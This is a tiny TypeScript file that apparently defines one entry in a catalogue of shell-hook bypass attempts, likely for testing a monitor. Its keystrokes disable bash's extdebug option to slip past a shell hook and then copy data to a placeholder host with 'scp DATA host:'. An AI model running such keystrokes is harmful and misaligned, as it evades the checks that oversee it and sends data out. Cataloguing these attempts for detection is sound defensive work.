import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'shopt -u extdebug',
  source: 'attempts to get round a hook of the shell',
  keys: ['shopt -u extdebug\r', 'scp DATA host:\r'],
};
